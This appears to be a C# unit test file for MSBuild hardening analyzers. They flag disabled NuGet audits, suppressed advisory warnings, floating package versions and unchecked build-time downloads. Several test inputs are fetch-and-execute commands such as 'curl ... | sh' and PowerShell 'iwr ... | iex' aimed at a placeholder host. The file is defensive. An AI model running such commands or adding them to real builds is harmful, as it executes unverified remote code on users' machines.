using Hardening.Analyzers.Projects;
using static Hardening.Analyzers.Tests.Projects.ProjectFileCases;

namespace Hardening.Analyzers.Tests.Projects;

public class PackageVersionTests
{
    [Theory]
    [InlineData("<NuGetAudit>false</NuGetAudit>")]
    [InlineData("<NuGetAudit>False</NuGetAudit>")]
    [InlineData("<NuGetAudit> false </NuGetAudit>")]
    [InlineData("<nugetaudit>false</nugetaudit>")]
    [InlineData("<NuGetAudit Condition=\"'$(NuGetAudit)' == ''\">false</NuGetAudit>")]
    [InlineData("<NuGetAudit Condition=\" '$(NuGetAudit)'=='' \">false</NuGetAudit>")]
    [InlineData("<NuGetAuditMode>all</NuGetAuditMode><NuGetAudit>false</NuGetAudit>")]
    [InlineData("<NuGetAudit>false</NuGetAudit><Nullable>enable</Nullable>")]
    [InlineData("<NuGetAudit Label=\"x\">false</NuGetAudit>")]
    [InlineData("<NuGetAudit><!-- slow -->false</NuGetAudit>")]
    public Task A_check_that_is_switched_off_is_reported(string property) =>
        Check<AuditDisabledAnalyzer>("HT7003", true, Properties(property));

    [Theory]
    [InlineData("<NuGetAudit>true</NuGetAudit>")]
    [InlineData("")]
    [InlineData("<NuGetAuditMode>direct</NuGetAuditMode>")]
    [InlineData("<NuGetAudit Condition=\"'$(SourceBuild)' == 'true'\">false</NuGetAudit>")]
    [InlineData("<NuGetAudit>$(AuditPackages)</NuGetAudit>")]
    [InlineData("<NuGetAuditLevel>low</NuGetAuditLevel>")]
    [InlineData("<Audit>false</Audit>")]
    [InlineData("<RunAnalyzers>false</RunAnalyzers>")]
    [InlineData("<NuGetAudit></NuGetAudit>")]
    public Task A_check_that_is_on_or_decided_elsewhere_is_not(string property) =>
        Check<AuditDisabledAnalyzer>("HT7003", false, Properties(property));

    [Fact]
    public Task An_item_of_that_name_is_no_property() => Check<AuditDisabledAnalyzer>("HT7003", false, Items("<NuGetAudit Include=\"false\">false</NuGetAudit>"));

    [Theory]
    [InlineData("<NoWarn>NU1903</NoWarn>")]
    [InlineData("<NoWarn>$(NoWarn);NU1901;NU1902</NoWarn>")]
    [InlineData("<NoWarn>CS1591, nu1904</NoWarn>")]
    [InlineData("<NoWarn>CS1591 NU1903</NoWarn>")]
    [InlineData("<MSBuildWarningsAsMessages>NU1903</MSBuildWarningsAsMessages>")]
    [InlineData("<NuGetAuditLevel>critical</NuGetAuditLevel>")]
    public Task Advisories_hidden_for_a_project_are_reported(string property) =>
        Check<AdvisoryHiddenAnalyzer>("HT7004", true, Properties(property));

    [Theory]
    [InlineData("<PackageReference Include=\"A\" Version=\"1.0.0\" NoWarn=\"NU1903\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"1.0.0\" NoWarn=\"NU1608;NU1902\" />")]
    [InlineData("<PackageVersion Include=\"A\" Version=\"1.0.0\" NoWarn=\"NU1904\" />")]
    [InlineData("<GlobalPackageReference Include=\"A\" Version=\"1.0.0\" NoWarn=\"NU1901\" />")]
    public Task Advisories_hidden_for_a_package_are_reported(string item) => Check<AdvisoryHiddenAnalyzer>("HT7004", true, Items(item));

    [Theory]
    [InlineData("<NoWarn>NU1608;CS1591</NoWarn>")]
    [InlineData("<NoWarn>$(NoWarn)</NoWarn>")]
    [InlineData("<WarningsAsErrors>NU1903</WarningsAsErrors>")]
    [InlineData("<WarningsNotAsErrors>NU1903</WarningsNotAsErrors>")]
    [InlineData("<NuGetAuditLevel>low</NuGetAuditLevel>")]
    [InlineData("<NoWarn Condition=\"'$(Demo)' == 'true'\">NU1903</NoWarn>")]
    [InlineData("<NoWarn>NU19034</NoWarn>")]
    [InlineData("<Description>NU1903</Description>")]
    public Task Other_suppressions_are_not(string property) => Check<AdvisoryHiddenAnalyzer>("HT7004", false, Properties(property));

    [Theory]
    [InlineData("<NuGetAuditSuppress Include=\"https://example.com/advisory/1\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"1.0.0\" NoWarn=\"NU1701\" />")]
    public Task A_single_advisory_accepted_is_not(string item) => Check<AdvisoryHiddenAnalyzer>("HT7004", false, Items(item));

    [Theory]
    [InlineData("<PackageReference Include=\"A\" Version=\"*\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"2.*\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"2.1.*\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"2.0.0-*\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"*-*\" PrivateAssets=\"all\" />")]
    [InlineData("<PackageReference Include=\"A\"><Version>3.*</Version></PackageReference>")]
    [InlineData("<PackageReference Include=\"A\" VersionOverride=\"3.*\" />")]
    [InlineData("<PackageVersion Include=\"A\" Version=\"3.*\" />")]
    [InlineData("<GlobalPackageReference Include=\"A\" Version=\"3.*\" />")]
    [InlineData("<PackageReference Update=\"A\" Version=\"[1.*,2.0)\" />")]
    public Task A_version_that_floats_is_reported(string item) => Check<FloatingVersionAnalyzer>("HT7005", true, Items(item));

    [Theory]
    [InlineData("<PackageReference Include=\"A\" Version=\"1.0.0\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"[1.0.0]\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"[1.0.0,2.0.0)\" />")]
    [InlineData("<PackageReference Include=\"A\" Version=\"$(AVersion)\" />")]
    [InlineData("<PackageReference Include=\"A\" />")]
    [InlineData("<PackageVersion Include=\"A\" Version=\"1.0.0-beta.1\" />")]
    [InlineData("<Compile Include=\"**/*.cs\" />")]
    [InlineData("<PackageReference Remove=\"A\" />")]
    [InlineData("<ProjectReference Include=\"*.csproj\" />")]
    public Task A_version_that_stands_is_not(string item) => Check<FloatingVersionAnalyzer>("HT7005", false, Items(item));

    [Fact]
    public Task A_lock_file_holds_the_version() => Check<FloatingVersionAnalyzer>("HT7005", false,
        Items("<PackageReference Include=\"A\" Version=\"2.*\" />"),
        Properties("<RestorePackagesWithLockFile>true</RestorePackagesWithLockFile>"));

    [Theory]
    [InlineData("<Exec Command=\"curl -s https://contoso.com/x.sh | sh\" />")]
    [InlineData("<Exec Command=\"curl -s https://contoso.com/x.sh|bash -s --\" />")]
    [InlineData("<Exec Command=\"wget -qO- https://contoso.com/x.sh | sudo bash\" />")]
    [InlineData("<Exec Command=\"powershell -c &quot;iwr https://contoso.com/x.ps1 | iex&quot;\" />")]
    [InlineData("<Exec Command=\"pwsh -c &quot;iex (Invoke-WebRequest https://contoso.com/x.ps1)&quot;\" />")]
    [InlineData("<Exec Command=\"powershell iex ((New-Object Net.WebClient).DownloadString('https://contoso.com/x'))\" />")]
    [InlineData("<Exec Command=\"CURL https://contoso.com/x.py | python3 -\" ContinueOnError=\"true\" />")]
    [InlineData("<DownloadFile SourceUrl=\"https://contoso.com/tool.exe\" DestinationFolder=\"obj\" />")]
    [InlineData("<DownloadFile SourceUrl=\"$(ToolUrl)\" DestinationFolder=\"obj\" /><Exec Command=\"obj/tool\" />")]
    [InlineData("<DownloadFile SourceUrl=\"http://contoso.com/data.json\" DestinationFolder=\"obj\" />")]
    public Task A_download_that_nothing_checks_is_reported(string tasks) => Check<BuildRunsDownloadAnalyzer>("HT7007", true, Target(tasks));

    [Theory]
    [InlineData("<Exec Command=\"git rev-parse HEAD\" />")]
    [InlineData("<Exec Command=\"curl -o obj/data.json https://contoso.com/data.json\" />")]
    [InlineData("<Exec Command=\"cat list.txt | sh\" />")]
    [InlineData("<Exec Command=\"echo curl | grep c\" />")]
    [InlineData("<Exec Command=\"npm ci\" />")]
    [InlineData("<DownloadFile SourceUrl=\"https://contoso.com/t\" DestinationFolder=\"obj\" /><VerifyFileHash File=\"obj/t\" Hash=\"00\" />")]
    [InlineData("<VerifyFileHash File=\"obj/t\" Hash=\"00\" />")]
    [InlineData("<Message Text=\"curl https://contoso.com/x.sh | sh\" />")]
    [InlineData("<DownloadFile SourceUrl=\"http://localhost:8080/t\" DestinationFolder=\"obj\" />")]
    [InlineData("<Copy SourceFiles=\"a\" DestinationFolder=\"b\" />")]
    public Task A_checked_download_or_another_task_is_not(string tasks) => Check<BuildRunsDownloadAnalyzer>("HT7007", false, Target(tasks));

    [Theory]
    [InlineData("<Project><PropertyGroup><NuGetAudit>false</NuGetAudit>")]
    [InlineData("<!DOCTYPE x [<!ENTITY a \"b\">]><Project><PropertyGroup><NuGetAudit>false</NuGetAudit></PropertyGroup></Project>")]
    [InlineData("")]
    [InlineData("not xml")]
    public Task A_file_that_is_no_project_says_nothing_and_breaks_nothing(string text) =>
        Check<AuditDisabledAnalyzer>("HT7003", false, text);
}
